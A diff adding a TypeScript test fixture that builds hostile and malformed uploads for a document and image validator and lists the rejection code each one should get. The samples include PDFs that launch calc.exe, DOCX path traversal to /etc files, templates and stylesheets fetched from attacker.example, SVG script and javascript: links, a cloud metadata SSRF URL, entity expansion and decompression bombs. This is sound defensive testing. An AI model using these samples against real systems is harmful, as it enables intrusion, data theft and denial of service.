@@ -1,0 +1,352 @@
+import { deflateSync, gzipSync } from 'node:zlib';
+import sharp from 'sharp';
+import { makeCompoundFile, wordBeginning } from './make-compound-file.ts';
+import { makePdf, stream, writePdf } from './make-pdf.ts';
+import { makeDocx, makeZip } from './make-zip.ts';
+
+/** What strangers may send: by a name that says what it is, its bytes, and what is answered. */
+interface NastyFile {
+  bytes: () => Buffer | Promise<Buffer>;
+  /** `FILE_...` when it is refused; else the type that it is taken for, with what else must be found out about it */
+  expected: string | { type: string; pages?: number; pixels?: { width: number; height: number } };
+}
+
+const MEGABYTE = 1024 * 1024;
+const text = (content: string) => () => Buffer.from(content);
+const svg = (content: string, attributes = '') =>
+  text(
+    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${content}</svg>`,
+  );
+const picture = (width = 60, height = 40) =>
+  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 90, b: 30 } } });
+/** Half of a picture that does not pack well. */
+async function half(format: 'png' | 'jpeg' | 'webp'): Promise<Buffer> {
+  const noisy = sharp({
+    create: {
+      width: 300,
+      height: 300,
+      channels: 3,
+      background: 'white',
+      noise: { type: 'gaussian', mean: 128, sigma: 50 },
+    },
+  });
+  const bytes = await noisy.toFormat(format).toBuffer();
+  return bytes.subarray(0, bytes.length / 2);
+}
+/** A PNG that says it is so large, and holds nothing. */
+async function pngOfSize(width: number, height: number): Promise<Buffer> {
+  const bytes = await picture().png().toBuffer();
+  bytes.writeUInt32BE(width, 16);
+  bytes.writeUInt32BE(height, 20);
+  return bytes;
+}
+/** With the chunk of a PNG that moves. */
+async function movingPng(): Promise<Buffer> {
+  const bytes = await picture().png().toBuffer();
+  const control = Buffer.alloc(20);
+  control.writeUInt32BE(8, 0);
+  control.write('acTL', 4, 'latin1');
+  control.writeUInt32BE(2, 8);
+  return Buffer.concat([bytes.subarray(0, 33), control, bytes.subarray(33)]);
+}
+async function movingWebp(): Promise<Buffer> {
+  const frames = await Promise.all([picture(20, 20).png().toBuffer(), picture(20, 20).negate().png().toBuffer()]);
+  return sharp(frames, { join: { animated: true } })
+    .webp()
+    .toBuffer();
+}
+const zeros = (megabytes: number) => Buffer.alloc(megabytes * MEGABYTE);
+const relationship = (type: string, target: string) =>
+  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+const objectList = (content: string) =>
+  stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', deflateSync(`20000 0 ${content}`));
+
+/** Sent where PDF, DOC and DOCX are asked for. */
+export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
+  'nothing at all': { bytes: text(''), expected: 'FILE_EMPTY' },
+  'one byte': { bytes: text('%'), expected: 'FILE_TYPE' },
+  'plain words': { bytes: text('Dear printer, please print this.'), expected: 'FILE_TYPE' },
+  'a web page that is called .doc': { bytes: text('<html><body>Dear printer</body></html>'), expected: 'FILE_TYPE' },
+  'a program': { bytes: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), expected: 'FILE_TYPE' },
+  'a picture': { bytes: () => picture().png().toBuffer(), expected: 'FILE_TYPE' },
+  'random bytes': { bytes: () => Buffer.from('9f3a66c1d2e8b7a5'.repeat(60), 'hex'), expected: 'FILE_TYPE' },
+
+  'a good PDF': { bytes: () => makePdf({ pages: 3 }), expected: { type: 'pdf', pages: 3 } },
+  'a PDF with a password': {
+    bytes: () =>
+      makePdf({
+        objects: ['<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>'],
+        trailer: '/Encrypt 10000 0 R',
+      }),
+    expected: 'FILE_PROTECTED',
+  },
+  'a PDF whose password is written in another way': {
+    bytes: () => makePdf({ trailer: '/#45ncrypt << /Filter /Standard /V 1 /R 2 >>' }),
+    expected: 'FILE_PROTECTED',
+  },
+  'a PDF of 5,000 pages': { bytes: () => makePdf({ pages: 5_000 }), expected: 'FILE_TOO_MANY_PAGES' },
+  'a PDF without pages': { bytes: () => makePdf({ pages: 0 }), expected: 'FILE_NO_PAGES' },
+  'a PDF whose table of objects leads to itself': {
+    bytes: () =>
+      Buffer.from(
+        makePdf()
+          .toString('latin1')
+          .replace(/<< \/Size/, '<< /Prev 9 /Prev 600 /Size'),
+        'latin1',
+      ),
+    expected: { type: 'pdf', pages: 1 },
+  },
+  'a PDF whose pages hold each other': {
+    bytes: () =>
+      writePdf([
+        [1, '<< /Type /Catalog /Pages 2 0 R >>'],
+        [2, '<< /Type /Pages /Count 3 /Kids [3 0 R] >>'],
+        [3, '<< /Type /Pages /Count 3 /Parent 2 0 R /Kids [2 0 R] >>'],
+      ]),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a PDF that is only its beginning': { bytes: () => makePdf().subarray(0, 60), expected: 'FILE_UNREADABLE' },
+  'a PDF with pages of a kilometre': {
+    bytes: () => makePdf({ mediaBox: '[0 0 2834646 2834646]' }),
+    expected: 'FILE_PAGE_SIZE',
+  },
+  'a PDF with pages of a size that is no number': {
+    bytes: () => makePdf({ mediaBox: `[0 0 1${'0'.repeat(60)} 595]` }),
+    expected: { type: 'pdf', pages: 1 },
+  },
+  'a PDF with pages of no size': {
+    bytes: () => makePdf({ mediaBox: '[0 0 0 0]' }),
+    expected: { type: 'pdf', pages: 1 },
+  },
+  'a PDF that starts a program': {
+    bytes: () => makePdf({ catalogue: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program under another spelling': {
+    bytes: () => makePdf({ catalogue: '/OpenAction << /S /L#61un#63h /F (calc.exe) >>' }),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that starts a program from a packed list': {
+    bytes: () => makePdf({ objects: [objectList('<< /S /Launch /F (calc.exe) >>')] }),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF with a file in it': {
+    bytes: () => makePdf({ objects: [stream('/Type /EmbeddedFile', Buffer.from('MZ'))] }),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF that is another kind of form': {
+    bytes: () => makePdf({ catalogue: '/AcroForm << /XFA 10000 0 R >>', objects: ['(form)'] }),
+    expected: 'FILE_ACTIVE',
+  },
+  'a PDF with JavaScript that nobody runs': {
+    bytes: () => makePdf({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
+    expected: { type: 'pdf', pages: 1 },
+  },
+  'a PDF that is a web page, too': {
+    bytes: () => Buffer.concat([makePdf(), Buffer.from('<script>alert(1)</script>')]),
+    expected: { type: 'pdf', pages: 1 },
+  },
+  'a web page that is a PDF, too': {
+    bytes: () => Buffer.concat([Buffer.from('<script>alert(1)</script>'), makePdf()]),
+    expected: 'FILE_TYPE',
+  },
+  'a PDF whose page unfolds to 60 MB': {
+    bytes: () => makePdf({ content: deflateSync(zeros(60), { level: 1 }) }),
+    expected: { type: 'pdf', pages: 1 },
+  },
+
+  'a good DOCX that is called .pdf': { bytes: () => makeDocx(), expected: { type: 'docx' } },
+  'a DOCX that unfolds to 60 MB': {
+    bytes: () => makeDocx([{ name: 'word/document.xml', content: zeros(60) }]),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a DOCX that lies about its size': {
+    bytes: () => makeDocx([{ name: 'word/document.xml', content: zeros(30), claimedSize: 100 }]),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a DOCX of 5,000 parts': {
+    bytes: () => makeDocx(Array.from({ length: 5_000 }, (_, n) => ({ name: `word/${n}.xml`, content: 'x' }))),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a DOCX that leads out of its folder': {
+    bytes: () => makeDocx([{ name: '../../../etc/cron.d/print', content: 'x' }]),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a DOCX with a name from the root': {
+    bytes: () => makeDocx([{ name: '/etc/passwd', content: 'x' }]),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a DOCX with macros': {
+    bytes: () => makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }]),
+    expected: 'FILE_MACROS',
+  },
+  'a DOCM that is called .docx': {
+    bytes: () =>
+      makeDocx([
+        {
+          name: '[Content_Types].xml',
+          content: '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+        },
+      ]),
+    expected: 'FILE_MACROS',
+  },
+  'a DOCX that fetches its template': {
+    bytes: () =>
+      makeDocx([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          content: relationship('attachedTemplate', 'https://attacker.example/t.dotm'),
+        },
+      ]),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX whose template was on its writer’s disk': {
+    bytes: () =>
+      makeDocx([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          content: relationship('attachedTemplate', 'file:///C:/Letters/Letter.dotx'),
+        },
+      ]),
+    expected: { type: 'docx' },
+  },
+  'a DOCX with an archive in it, which is left closed': {
+    bytes: () =>
+      makeDocx([{ name: 'word/embeddings/sheet.xlsx', content: makeZip([{ name: 'a', content: zeros(1) }]) }]),
+    expected: { type: 'docx' },
+  },
+  'archives within archives': {
+    bytes: () =>
+      makeZip([
+        { name: 'a.zip', content: makeZip([{ name: 'b.zip', content: makeZip([{ name: 'c', content: zeros(1) }]) }]) },
+      ]),
+    expected: 'FILE_TYPE',
+  },
+  'an archive that ends in the middle': { bytes: () => makeDocx().subarray(0, 300), expected: 'FILE_UNREADABLE' },
+
+  'a good DOC': { bytes: () => makeCompoundFile({ WordDocument: wordBeginning() }), expected: { type: 'doc' } },
+  'a DOC with macros': {
+    bytes: () =>
+      makeCompoundFile({ WordDocument: wordBeginning(), Macros: Buffer.alloc(0), _VBA_PROJECT: Buffer.alloc(9) }),
+    expected: 'FILE_MACROS',
+  },
+  'a DOC with a password': {
+    bytes: () => makeCompoundFile({ WordDocument: wordBeginning(0x0100) }),
+    expected: 'FILE_PROTECTED',
+  },
+  'a DOCX with a password': {
+    bytes: () => makeCompoundFile({ EncryptionInfo: Buffer.alloc(9), EncryptedPackage: Buffer.alloc(9) }),
+    expected: 'FILE_PROTECTED',
+  },
+  'a table that is called .doc': {
+    bytes: () => makeCompoundFile({ Workbook: Buffer.alloc(9) }),
+    expected: 'FILE_TYPE',
+  },
+  'a DOC whose directory is a circle': {
+    bytes: () => makeCompoundFile({ WordDocument: wordBeginning() }, 1),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a DOC that ends in the middle': {
+    bytes: () => makeCompoundFile({ WordDocument: wordBeginning() }).subarray(0, 700),
+    expected: 'FILE_UNREADABLE',
+  },
+};
+
+/** Sent where pictures and drawings are asked for. */
+export const NASTY_PICTURES: Readonly<Record<string, NastyFile>> = {
+  'a PNG of 3,600 million pixels': { bytes: () => pngOfSize(60_000, 60_000), expected: 'FILE_TOO_COMPLEX' },
+  'a PNG without pixels': { bytes: () => pngOfSize(0, 0), expected: 'FILE_UNREADABLE' },
+  'a PNG that ends in the middle': { bytes: () => half('png'), expected: 'FILE_UNREADABLE' },
+  'a JPG that ends in the middle': { bytes: () => half('jpeg'), expected: 'FILE_UNREADABLE' },
+  'a WebP that ends in the middle': { bytes: () => half('webp'), expected: 'FILE_UNREADABLE' },
+  'a PNG that moves': { bytes: movingPng, expected: 'FILE_ANIMATED' },
+  'a WebP that moves': { bytes: movingWebp, expected: 'FILE_ANIMATED' },
+  'a GIF that is a program, too': {
+    bytes: async () =>
+      Buffer.concat([await picture().gif().toBuffer(), makeZip([{ name: 'Evil.class', content: 'x' }])]),
+    expected: 'FILE_TYPE',
+  },
+  'a JPG with an archive behind it': {
+    bytes: async () =>
+      Buffer.concat([await picture().jpeg().toBuffer(), makeZip([{ name: 'Evil.class', content: 'x' }])]),
+    expected: { type: 'jpg', pixels: { width: 60, height: 40 } },
+  },
+  'a JPG for the press, in four inks': {
+    bytes: () => picture().toColourspace('cmyk').jpeg().toBuffer(),
+    expected: { type: 'jpg', pixels: { width: 60, height: 40 } },
+  },
+  'a JPG of a camera that lay on its side': {
+    bytes: () => picture().withMetadata({ orientation: 6 }).jpeg().toBuffer(),
+    expected: { type: 'jpg', pixels: { width: 40, height: 60 } },
+  },
+  'a TIFF': { bytes: () => picture().tiff().toBuffer(), expected: 'FILE_TYPE' },
+
+  'a good drawing': { bytes: svg('<rect width="9" height="9"/>'), expected: { type: 'svg' } },
+  'a drawing with a script': { bytes: svg('<script>alert(1)</script>'), expected: 'FILE_ACTIVE' },
+  'a drawing with a script of another prefix': {
+    bytes: svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a drawing that does something when it is loaded': { bytes: svg('', 'onload="alert(1)"'), expected: 'FILE_ACTIVE' },
+  'a drawing with a web page in it': {
+    bytes: svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a drawing with a link that runs': {
+    bytes: svg('<a xlink:href="java&#115;cript:alert(1)"/>'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a drawing that writes a link later': {
+    bytes: svg('<a><set attributeName="xlink:href" to="x"/></a>'),
+    expected: 'FILE_ACTIVE',
+  },
+  'a drawing that fetches a picture': {
+    bytes: svg('<image href="http://169.254.169.254/latest/meta-data/"/>'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a drawing that reads a file': { bytes: svg('<image xlink:href="file:///etc/passwd"/>'), expected: 'FILE_EXTERNAL' },
+  'a drawing in a drawing': {
+    bytes: svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a drawing that fetches a style sheet': {
+    bytes: svg('<style>@import "https://attacker.example/a.css";</style>'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a drawing that hides what it fetches': {
+    bytes: svg('<rect style="fill:u\\72l(https://attacker.example/a)"/>'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a drawing that fetches its paint': {
+    bytes: svg('<rect fill="url(//attacker.example/a)"/>'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a drawing with a style sheet from elsewhere': {
+    bytes: text('<?xml-stylesheet href="https://attacker.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a drawing with words that grow a billionfold': {
+    bytes: text(
+      '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
+    ),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a drawing of the size of a country': {
+    bytes: svg('', 'width="9000000" height="9000000"'),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a drawing of 10,000 drawers': {
+    bytes: svg('<g>'.repeat(10_000) + '</g>'.repeat(10_000)),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a drawing that does not end': {
+    bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><g>'),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a drawing of another alphabet’s bytes': {
+    bytes: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg">\xff\xfe</svg>', 'latin1'),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a packed drawing': { bytes: () => gzipSync('<svg xmlns="http://www.w3.org/2000/svg"/>'), expected: 'FILE_TYPE' },
+  'a web page': { bytes: text('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'), expected: 'FILE_TYPE' },
+};
